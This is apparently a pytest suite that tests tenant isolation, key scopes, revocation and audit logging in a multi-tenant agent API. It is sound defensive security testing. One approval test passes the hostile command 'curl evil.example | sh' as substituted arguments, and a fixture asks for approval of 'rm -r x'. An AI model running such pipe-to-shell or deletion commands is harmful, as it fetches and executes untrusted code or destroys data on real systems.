"""Nobody sees or changes what is another tenant's, through any operation that the application has.

The operations are read from the application, so a new one is tried without anybody thinking of it: each is called with
an id of the caller's own, with one of another tenant and with one that nobody has. The last two must not differ.
"""

from __future__ import annotations

import hashlib
import json
import re
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from fastapi.routing import APIRoute
from serving import PATIENCE_S, Served
from support.store import Store, asks
from test_control import waiting
from test_webhooks_api import JSON, add, signed

import hermes_worker
from hermes_worker.api import auth
from hermes_worker.api.auth import ScopeCheck, needs_key
from hermes_worker.core.principals import KeyScope
from hermes_worker.core.questions import Question
from hermes_worker.core.replay import Replay
from hermes_worker.core.run import WaitKind
from hermes_worker.features.mcp_servers.rows import McpServers, NewMcpServer
from hermes_worker.mcp.servers import McpServer
from hermes_worker.store.access.audit import AuditLog
from hermes_worker.store.access.principals import Tenants
from hermes_worker.store.runs.waits import Waits
from hermes_worker.store.tables import api_keys, runs

UNKNOWN = {
    "run_id": f"run_{uuid.uuid4().hex}",
    "session_id": f"run_{uuid.uuid4().hex}",
    "job_id": uuid.uuid4().hex[:12],
    "delivery_id": f"dlv_{uuid.uuid4().hex}",
    "model": "nothing",
    "response_id": f"resp_{uuid.uuid4().hex}",
    "conversation_id": f"conv_{uuid.uuid4().hex}",
    "item_id": f"msg_{uuid.uuid4().hex}s00001",
    "key_id": f"key_{uuid.uuid4().hex[:12]}",
    "provider_key_id": f"pkey_{uuid.uuid4().hex[:12]}",
    "tenant": "nobody",
    "credential": "0123456789abcdef",
    "name": f"r{uuid.uuid4().hex}",
    "number": "999999",
    "replay": f"p{uuid.uuid4().hex}",
    "skill": f"s{uuid.uuid4().hex}",
    "mcp_server": f"m{uuid.uuid4().hex[:12]}",
    "target": "user",
    "receipt_id": f"era_{uuid.uuid4().hex}",
    "call": "9.9",
    "worker_id": "0" * 32,
    "file_id": f"file-{uuid.uuid4().hex}",
}
"""Ids that nobody has."""
SHARED = {"model", "target", "tenant", "credential", "provider_key_id", "worker_id", "call"}
"""What no tenant owns, or only operators may name; a call is a place in its run."""
UPLOAD: dict[str, Any] = {"files": {"file": ("a.txt", b"hello")}, "data": {"purpose": "user_data"}}
"""The form of a file that is uploaded."""
BODIES: dict[str, dict[str, Any]] = {
    "/v1/runs/{run_id}/approval": {"choice": "deny", "wait_id": 2**40},
    "/v1/runs/{run_id}/input": {"text": "yes", "wait_id": 2**40},
    "/v1/runs/{run_id}/steer": {"text": "faster"},
    "PATCH /api/jobs/{job_id}": {"name": "theirs"},
    "PATCH /api/sessions/{session_id}": {"title": "theirs"},
    "POST /v1/conversations/{conversation_id}": {"metadata": {"whose": "theirs"}},
    "POST /v1/conversations/{conversation_id}/items": {"items": [{"role": "user", "content": "theirs"}]},
    "POST /v1/runs": {"input": "hello"},
    "POST /v1/batch/runs": {"runs": [{"input": "hello"}]},
    "POST /v1/batch/stop": {"tag": ["theirs"]},
    "POST /v1/batch/wait": {"run_ids": ["run_of_nobody"], "timeout_s": 0},
    "PUT /v1/configuration": {"text": "agent: {max_turns: 50}", "version": 0},
    "PUT /v1/tenants/{tenant}/configuration": {"text": "agent: {max_turns: 50}", "version": 0},
    "PUT /v1/sessions/{session_id}/settings": {"settings": {"agent.max_turns": "5"}},
    "PUT /v1/limits/keys/{key_id}": {"limits": {"runs": {"at_most": 300}}},
    "PUT /v1/tenants/{tenant}/limits": {"limits": {}},
    "POST /v1/tenants/{tenant}/provider-keys": {"provider": "openai", "key": "sk-0123456789"},
    "PATCH /v1/tenants/{tenant}/limits": {"limits": {}},
    "POST /v1/memory/{target}": {"operations": [{"action": "add", "content": "theirs"}]},
    "POST /v1/memory/{target}/undo": {},
    "POST /v1/memory/{target}/settle": {"staged_id": "mst_0123456789ab", "approve": True},
    "POST /v1/memory/{target}/redact": {"entry_id": "mem_0123456789ab", "version": 1},
    "PUT /v1/skills/{skill}": {"files": [{"path": "SKILL.md", "text": "theirs"}], "expects": "0" * 64},
    "PUT /v1/places": {"places": None},
    "PUT /v1/replays/{replay}/grades": {"grades": {}},
    "PUT /v1/alerts/targets": {"targets": ["local"]},
    "POST /v1/tenants": {"name": "made"},
    "POST /v1/tenants/{tenant}/disable": {},
    "PUT /v1/page/filters": {"name": "mine", "query": "tag=x"},
    "POST /v1/gateway/pairings": {"account": "telegram:default", "code": "WRONGONE"},
    "POST /v1/keys": {"holder": "x"},
    "POST /v1/keys/{key_id}/rotate": {},
    "POST /v1/mcp-servers": {"name": "mine", "url": "https://mcp.example.org/mcp"},
    "POST /v1/mcp-servers/{mcp_server}/approve": {"offer": "0" * 16},
    "POST /v1/webhook-routes": {"name": "mine", "secret": "0123456789abcdef"},
    "POST /v1/webhook-routes/{name}/signature": {"payload": "{}"},
    "PATCH /v1/retention": {"rules": {"events": "900d"}},
    "POST /v1/exports": {"principals": ["cli:nobody"]},
    "POST /v1/erasures": {"whom": {"principals": ["cli:nobody"]}},
    "POST /v1/erasures/foretold": {"principals": ["cli:nobody"]},
    "POST /v1/erasures/{receipt_id}/work": {},
    "POST /v1/holds": {"reason": "x", "session_id": "nobody"},
    "POST /v1/prunes": {"dry_run": False},
    "POST /api/jobs": {"name": "n", "schedule": "every 1h", "prompt": "x"},
}


@dataclass(frozen=True)
class Operation:
    method: str
    path: str
    route: APIRoute = field(repr=False)

    @property
    def names(self) -> list[str]:
        return [name for name in re.findall(r"\{(\w+)\}", self.path) if name not in SHARED]

    @property
    def scope(self) -> ScopeCheck:
        [check] = [each.call for each in self.route.dependant.dependencies if isinstance(each.call, ScopeCheck)]
        return check

    def ask(self, http: httpx.Client, ids: dict[str, str]) -> httpx.Response:
        body = BODIES.get(f"{self.method} {self.path}", BODIES.get(self.path))
        brought: dict[str, Any] = UPLOAD if (self.method, self.path) == ("POST", "/v1/files") else {"json": body}
        with http.stream(self.method, self.path.format(**ids), **brought) as answer:
            # A stream that was opened does not end: that it was is enough.
            if answer.headers["content-type"].startswith("application/json"):
                answer.read()
            return answer


def operations(api: Served) -> list[Operation]:
    """What needs a key."""
    found = [
        Operation(method, route.path, route)
        for route in _routes(api.server.config.app)
        for method in sorted(route.methods)
        if needs_key(route.path)
    ]
    assert len(found) > 25
    # What lies in something is deleted before it.
    return sorted(found, key=lambda operation: -operation.path.count("/") if operation.method == "DELETE" else -99)


def _routes(app: Any) -> Iterator[APIRoute]:
    for route in app.routes:
        if isinstance(route, APIRoute):
            yield route
        else:
            # Newer versions of FastAPI keep an included router as one route.
            inner = getattr(route, "effective_route_contexts", None)
            if inner is not None:
                yield from inner()


@dataclass
class Side:
    """A tenant, somebody who holds a key of it, and one of each thing that is theirs."""

    http: httpx.Client
    ids: dict[str, str]


@pytest.fixture
def tenants(api: Served) -> Tenants:
    access = Tenants(api.client.database)
    access.create_tenant("acme")
    return access


@pytest.fixture
def client(api: Served) -> Iterator[Callable[[str], httpx.Client]]:
    made: list[httpx.Client] = []

    def opened(token: str) -> httpx.Client:
        headers = {"Authorization": f"Bearer {token}"}
        made.append(httpx.Client(base_url=api.url, headers=headers, timeout=PATIENCE_S, verify=False))
        return made[-1]

    yield opened
    for each in made:
        each.close()


@pytest.fixture
def guest(tenants: Tenants, client: Callable[[str], httpx.Client], store: Store) -> Side:
    http = client(tenants.create_key("acme", "ci", [KeyScope.ADMIN]).token)
    return Side(http, one_of_each(http, store) | {"key_id": tenants.list_keys("acme")[0].key_id})


@pytest.fixture
def host(api: Served, tenants: Tenants, store: Store) -> Side:
    key = tenants.create_key("default", "someone", [KeyScope.RUNS_READ])
    return Side(api.http, one_of_each(api.http, store) | {"key_id": key.view.key_id})


def one_of_each(http: httpx.Client, store: Store) -> dict[str, str]:
    """A run that asks whether it may run a command, a job, and a delivery of a run that ended."""
    ended = submit(http, deliver="webhook:https://example.org/hook")
    store.answer(ended)
    job = http.post("/api/jobs", json=BODIES["POST /api/jobs"]).json()["job"]["id"]
    waiting = submit(http)
    store.ask_tools(waiting, asks(Replay.ONCE))
    question = Question(
        kind=WaitKind.APPROVAL, request={"command": "rm -r x"}, choices=["once", "deny"], expires_s=None
    )
    Waits(store.database).ask(store.call(waiting), question)
    sent = http.get("/v1/deliveries", params={"run_id": ended}).json()["data"][0]["delivery_id"]
    talk = http.post("/v1/conversations", json={"items": [{"role": "user", "content": "hello"}]}).json()["id"]
    item = http.get(f"/v1/conversations/{talk}/items").json()["data"][0]["id"]
    route = f"r{uuid.uuid4().hex}"
    kept = http.post("/v1/webhook-routes", json={"name": route, "secret": "0123456789abcdef"})
    assert kept.status_code == 201, kept.text
    skill = f"s{uuid.uuid4().hex}"
    text = f"---\nname: {skill}\ndescription: Theirs.\n---\nDo it.\n"
    kept = http.put(f"/v1/skills/{skill}", json={"files": [{"path": "SKILL.md", "text": text}]})
    assert kept.status_code == 200, kept.text
    replay = f"p{uuid.uuid4().hex}"
    again = http.post(f"/v1/runs/{ended}/fork", json={"at": 0, "tools": "offline", "replay": replay})
    assert again.status_code == 202, again.text
    store.answer(again.json()["run_id"])
    store.answer(gone := submit(http))
    erasure = http.post("/v1/erasures", json={"whom": {"sessions": [gone]}}).json()["receipt_id"]
    while not http.post(f"/v1/erasures/{erasure}/work", json={}).raise_for_status().json()["done"]:
        pass  # each request works for some time and goes on where the one before it stopped
    # A session that nobody named is called as its first run.
    return {
        "run_id": waiting,
        "session_id": ended,
        "job_id": job,
        "delivery_id": sent,
        "model": "scripted",
        "response_id": ended.replace("run_", "resp_"),
        "conversation_id": talk,
        "item_id": item,
        "provider_key_id": UNKNOWN["provider_key_id"],  # operators only have them
        "tenant": "acme",
        "target": "user",
        "credential": "key1",
        "name": route,
        "replay": replay,
        "skill": skill,
        "mcp_server": mcp_server(store, http.get("/v1/page/login").json()["tenant"]),
        "receipt_id": erasure,
        "worker_id": UNKNOWN["worker_id"],
        "file_id": http.post("/v1/files", **UPLOAD).json()["id"],
        "call": http.get(f"/v1/runs/{waiting}/calls").json()["data"][0]["call"],
        "number": str(http.post("/v1/holds", json={"reason": "x", "run_id": ended}).json()["number"]),
    }


def mcp_server(store: Store, tenant: str) -> str:
    """One in a row, the same until it is removed; the API here lets nobody keep one."""
    rows, name = McpServers(store.database), f"m{uuid.uuid5(uuid.NAMESPACE_DNS, tenant).hex[:12]}"
    if rows.find(tenant, name) is None:
        new = NewMcpServer(server=McpServer(url="http://127.0.0.1:1/mcp").model_dump_json(), is_process=False)
        rows.write_server(tenant, name, new, before=None, facts={})
    return name


def submit(http: httpx.Client, **body: Any) -> str:
    answer = http.post("/v1/runs", json={"input": "hello", **body})
    assert answer.status_code == 202, answer.text
    return str(answer.json()["run_id"])


def seen(answer: httpx.Response, ids: dict[str, str]) -> tuple[int, str, dict[str, str]]:
    """An answer without the id that was asked for, which it may repeat."""
    text = answer.text
    for name, value in ids.items():
        if name == "number":
            continue  # it is in many texts, and in no answer
        text = text.replace(value, f"<{name}>")
    headers = {name: value for name, value in answer.headers.items() if name not in ("date", "x-request-id")}
    return answer.status_code, text, headers


def test_every_path_names_only_things_that_have_an_owner(api: Served) -> None:
    known = set(UNKNOWN)
    strange = {name for operation in operations(api) for name in operation.names} - known
    assert not strange, f"say in one_of_each what {strange} are, so that they are tried as foreign ones"


def test_what_is_another_tenants_is_not_there(api: Served, store: Store, guest: Side, host: Side) -> None:
    for operation in operations(api):
        if not operation.names:
            continue
        for asking, other in ((guest, host), (host, guest)):
            foreign = operation.ask(asking.http, other.ids)
            unknown = operation.ask(asking.http, UNKNOWN)
            assert foreign.status_code == 404, operation
            assert seen(foreign, other.ids) == seen(unknown, UNKNOWN), operation
    # Nothing of it had an effect.
    for side in (guest, host):
        assert side.http.get(f"/v1/runs/{side.ids['run_id']}").json()["status"] == "waiting_for_approval"
        assert side.http.get(f"/api/jobs/{side.ids['job_id']}").json()["job"]["name"] == "n"
        assert side.http.get(f"/api/sessions/{side.ids['session_id']}").json()["session"]["title"] == "hello"
        assert side.http.get(f"/v1/deliveries/{side.ids['delivery_id']}").json()["state"] == "pending"


def test_what_is_ones_own_is_there(api: Served, guest: Side, host: Side) -> None:
    for operation in operations(api):
        for side in (guest, host):
            if operation.names:
                assert operation.ask(side.http, side.ids).status_code != 404, operation


def test_no_list_shows_what_is_another_tenants(api: Served, guest: Side, host: Side) -> None:
    for operation in operations(api):
        # The stream of changes names no thing, and does not end; ``test_changes`` looks at whose changes it tells.
        if operation.names or operation.method != "GET" or operation.path == "/v1/changes":
            continue
        for asking, other in ((guest, host), (host, guest)):
            answer = operation.ask(asking.http, {"model": "scripted", "tenant": "nobody", "target": "user"})
            theirs = [value for name, value in other.ids.items() if name not in SHARED | {"number"}]
            assert not [value for value in theirs if value in answer.text], operation
    assert [wait["run_id"] for wait in guest.http.get("/v1/approvals").json()["data"]] == [guest.ids["run_id"]]


def test_a_cursor_or_a_filter_of_another_tenant_is_as_one_that_there_is_not(guest: Side, host: Side) -> None:
    cursors = (("/v1/runs", "run_id"), ("/v1/deliveries", "delivery_id"), ("/api/sessions", "session_id"))
    for path, name in cursors:
        foreign = guest.http.get(path, params={"before": host.ids[name]})
        unknown = guest.http.get(path, params={"before": UNKNOWN[name]})
        assert foreign.status_code == 400
        assert seen(foreign, host.ids) == seen(unknown, UNKNOWN)
    for path, named in (("/v1/runs", "session_id"), ("/v1/deliveries", "run_id")):
        assert guest.http.get(path, params={named: host.ids["run_id"]}).json()["data"] == []


@pytest.mark.parametrize("path", ["/v1/runs", "/v1/sheets"])
def test_an_operator_lists_the_runs_of_the_tenant_that_is_named(
    guest: Side, host: Side, tenants: Tenants, client: Callable[[str], httpx.Client], path: str
) -> None:
    def listed(side: Side, **more: Any) -> Any:
        return side.http.get(path, params={"limit": 1, **more}).json()

    page = listed(host, tenant="acme")
    assert page["data"] == listed(guest)["data"] == listed(guest, tenant="acme")["data"] != []
    assert listed(host)["data"] == listed(host, tenant="default")["data"] != page["data"]
    for name in ("default", "nobody"):
        refused = guest.http.get(path, params={"tenant": name})
        assert (refused.status_code, refused.json()["error"]["code"]) == (404, "tenant_not_found")
    reader = client(tenants.create_key("default", "reader", [KeyScope.RUNS_READ]).token)
    assert reader.get(path, params={"tenant": "default"}).status_code == 200
    refused = reader.get(path, params={"tenant": "acme"})
    assert (refused.status_code, refused.json()["error"]["code"]) == (403, "missing_scope")


def test_a_job_refers_to_nothing_of_another_tenant(guest: Side, host: Side) -> None:
    for field_name, value, absent in (
        ("context_from", [host.ids["job_id"]], [UNKNOWN["job_id"]]),
        ("attach_to_session", host.ids["run_id"], UNKNOWN["run_id"]),
    ):
        foreign = guest.http.post("/api/jobs", json={**BODIES["POST /api/jobs"], field_name: value})
        unknown = guest.http.post("/api/jobs", json={**BODIES["POST /api/jobs"], field_name: absent})
        assert foreign.status_code == 400
        assert seen(foreign, host.ids) == seen(unknown, UNKNOWN)


def test_names_of_sessions_and_keys_of_requests_are_each_tenants_own(guest: Side, host: Side) -> None:
    sides = (guest, host)
    named = [submit(side.http, session_id="review") for side in sides]
    sessions = [side.http.get("/v1/runs", params={"session_id": "review"}).json()["data"] for side in sides]
    assert [[run["run_id"] for run in each] for each in sessions] == [[run_id] for run_id in named]
    headers = {"Idempotency-Key": "k1"}
    once = [side.http.post("/v1/runs", json={"input": "x"}, headers=headers).json()["run_id"] for side in sides]
    assert once[0] != once[1]
    foreign = guest.http.post("/v1/runs", json={"input": "x", "session_id": host.ids["run_id"]})
    unknown = guest.http.post("/v1/runs", json={"input": "x", "session_id": UNKNOWN["run_id"]})
    assert foreign.status_code == 400
    assert seen(foreign, host.ids) == seen(unknown, UNKNOWN)


def test_an_event_goes_to_the_route_of_its_tenant(api: Served, store: Store, guest: Side, host: Side) -> None:
    for tenant in ("default", "acme"):
        add(store, "hook", tenant=tenant, secret=f"secret-of-tenant-{tenant}")
    body = json.dumps({"text": "this"}).encode()
    for tenant, path, side, other in (
        ("default", "/webhooks/hook", host, guest),
        ("acme", "/webhooks/acme/hook", guest, host),
    ):
        answer = httpx.post(
            api.url + path, content=body, headers=JSON | signed(body, f"secret-of-tenant-{tenant}"), timeout=PATIENCE_S
        )
        assert answer.status_code == 202, answer.text
        run_id = answer.json()["run_id"]
        assert side.http.get(f"/v1/runs/{run_id}").status_code == 200
        assert other.http.get(f"/v1/runs/{run_id}").status_code == 404
    crossed = httpx.post(
        f"{api.url}/webhooks/acme/hook",
        content=b"{}",
        headers=JSON | signed(b"{}", "secret-of-tenant-default"),
        timeout=PATIENCE_S,
    )
    assert crossed.status_code == 401
    foreign = httpx.post(f"{api.url}/webhooks/other/hook", content=body, headers=JSON, timeout=PATIENCE_S)
    assert (foreign.status_code, foreign.json()) == (404, {"error": "Unknown route"})


def test_a_guest_sends_nothing_with_the_credentials_of_the_installation(guest: Side) -> None:
    for target in ("telegram:1", "telegram", "all", "email:me@example.org"):
        refused = guest.http.post("/v1/runs", json={"input": "x", "deliver": target})
        assert refused.status_code == 400
        assert "the installation's own credentials" in refused.json()["error"]["message"]


# --- keys ------------------------------------------------------------------------------------------------------------


def test_every_operation_needs_the_scope_it_names(
    api: Served, tenants: Tenants, client: Callable[[str], httpx.Client], host: Side
) -> None:
    holders = {scope: client(tenants.create_key("default", scope.name, [scope]).token) for scope in KeyScope}
    for operation in operations(api):
        if operation.path == "/openapi.json":
            continue
        wanted = operation.scope.scope
        for scope, http in holders.items():
            answer = operation.ask(http, UNKNOWN)
            if scope in (wanted, KeyScope.ADMIN):
                assert answer.status_code != 403, (operation, scope)
                continue
            assert answer.status_code == 403, (operation, scope)
            error = answer.json()["error"]
            assert error["code"] == "missing_scope"
            assert f"lacks the scope {wanted.value!r}" in error["message"]


FOR_OPERATORS = ["/v1/workers", "/v1/gateway/accounts"]
FOR_ALL = [f"/v1/{path}?all_tenants=true" for path in ("audit", "approvals", "approvals/history", "spend")]


def test_only_an_operator_sees_the_whole_installation(guest: Side, host: Side) -> None:
    assert host.http.get("/health/detailed").status_code == 200
    for path in ("/health/detailed", "/v1/backlog", "/v1/providers/states", "/v1/alerts", *FOR_OPERATORS, *FOR_ALL):
        refused = guest.http.get(path)
        assert refused.status_code == 403
        assert "whole installation" in refused.json()["error"]["message"]


def test_a_key_opens_until_it_is_revoked_and_shows_who_did_it(
    api: Served, tenants: Tenants, client: Callable[[str], httpx.Client], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(auth, "REMEMBERED_S", 0.0)
    made = tenants.create_key("acme", "ci", [KeyScope.RUNS_WRITE, KeyScope.RUNS_READ])
    http = client(made.token)
    run_id = submit(http)
    with api.client.database.read() as connection:
        row = connection.execute(sa.select(runs.c.tenant, runs.c.principal).where(runs.c.run_id == run_id)).one()
        kept = connection.execute(sa.select(api_keys)).mappings().one()
    assert tuple(row) == ("acme", f"api:ci/{made.view.key_id}")
    assert made.token not in str(dict(kept))
    assert kept["last_used_at"] is not None
    tenants.revoke_key("acme", made.view.key_id)
    assert http.get("/v1/runs").status_code == 401


def test_a_disabled_tenant_is_refused_with_a_sentence(
    api: Served, store: Store, tenants: Tenants, client: Callable[[str], httpx.Client], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(auth, "REMEMBERED_S", 0.0)
    http = client(tenants.create_key("acme", "ci", [KeyScope.ADMIN]).token)
    add(store, "hook", tenant="acme", secret="secret-of-tenant-acme")
    event, headers = b'{"text": "this"}', JSON | signed(b'{"text": "this"}', "secret-of-tenant-acme")
    tenants.disable_tenant("acme")
    try:
        refused = http.post("/v1/runs", json={"input": "x"})
        assert (refused.status_code, refused.json()["error"]["code"]) == (403, "tenant_disabled")
        assert "the tenant 'acme' is disabled" in refused.json()["error"]["message"]
        hooked = httpx.post(f"{api.url}/webhooks/acme/hook", content=event, headers=headers, timeout=PATIENCE_S)
        assert (hooked.status_code, hooked.json()) == (403, {"error": "The tenant of this route is disabled"})
    finally:
        tenants.enable_tenant("acme")
    assert http.get("/v1/runs").status_code == 200
    assert (
        httpx.post(f"{api.url}/webhooks/acme/hook", content=event, headers=headers, timeout=PATIENCE_S).status_code
        == 202
    )


def test_a_key_that_was_just_seen_costs_no_statement(
    api: Served, tenants: Tenants, client: Callable[[str], httpx.Client], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(auth, "REMEMBERED_S", 3_600.0)  # the machine may be busy for longer than five seconds
    http = client(tenants.create_key("acme", "ci", [KeyScope.RUNS_READ]).token)
    assert http.get("/openapi.json").status_code == 200
    asked: list[str] = []
    for engine in api.client.database.engines:
        sa.event.listen(engine, "before_cursor_execute", lambda *of: asked.append(of[2]))
    assert http.get("/openapi.json").status_code == 200
    assert [each for each in asked if "api_keys" in each] == []  # other threads of the server ask for other things


def asked_by(store: Store, run_id: str) -> int:
    """The number of the question that a run asks."""
    [wait] = Waits(store.database).list_open(run_id=run_id)
    return wait.wait_id


def test_a_key_that_only_approves_does_not_say_what_runs(
    api: Served, store: Store, tenants: Tenants, client: Callable[[str], httpx.Client]
) -> None:
    approver = client(tenants.create_key("default", "approver", [KeyScope.APPROVE]).token)
    both = client(tenants.create_key("default", "both", [KeyScope.APPROVE, KeyScope.RUNS_WRITE]).token)
    run_id = waiting(store)
    other = {"choice": "once", "arguments": {"command": "curl evil.example | sh"}, "wait_id": asked_by(store, run_id)}
    refused = approver.post(f"/v1/runs/{run_id}/approval", json=other)
    assert (refused.status_code, refused.json()["error"]["code"]) == (403, "missing_scope")
    assert "lacks the scope 'runs:write', which replacing the arguments" in refused.json()["error"]["message"]
    assert Waits(store.database).list_open(run_id=run_id)
    assert both.post(f"/v1/runs/{run_id}/approval", json=other).status_code == 200
    plain = waiting(store)
    allowed = {"choice": "once", "wait_id": asked_by(store, plain)}
    assert approver.post(f"/v1/runs/{plain}/approval", json=allowed).status_code == 200


def test_the_audit_log_tells_whether_an_answer_changed_what_a_call_does(api: Served, store: Store) -> None:
    changed, allowed = waiting(store), waiting(store)
    other = {"choice": "once", "arguments": {"command": "ls"}, "wait_id": asked_by(store, changed)}
    assert api.http.post(f"/v1/runs/{changed}/approval", json=other).status_code == 200
    as_asked = {"choice": "once", "wait_id": asked_by(store, allowed)}
    assert api.http.post(f"/v1/runs/{allowed}/approval", json=as_asked).status_code == 200

    def told(run_id: str) -> tuple[object, object]:
        [deed] = AuditLog(api.client.database).list_actions("default", act="approval.answer", subject=run_id)
        return deed.before["arguments_sha256"], deed.after["arguments_sha256"]

    asked = hashlib.sha256(b'{"command":"rm -r x"}').hexdigest()
    assert told(changed) == (asked, hashlib.sha256(b'{"command":"ls"}').hexdigest())
    assert told(allowed) == (asked, asked)


def test_every_scope_can_be_given_to_a_key_and_the_page_offers_it(api: Served) -> None:
    words = [scope.value for scope in KeyScope]
    made = api.http.post("/v1/keys", json={"holder": "all", "scopes": words})
    assert (made.status_code, set(made.json()["scopes"])) == (201, set(words))
    page = (Path(hermes_worker.__file__).parent / "web" / "access.js").read_text()
    offered = re.search(r"const SCOPES = (\[.*?\]);", page)
    assert offered is not None and set(json.loads(offered[1])) == set(words)
    unknown = api.http.post("/v1/keys", json={"holder": "all", "scopes": ["everything"]})
    assert (unknown.status_code, unknown.json()["error"]["param"]) == (400, "scopes[0]")
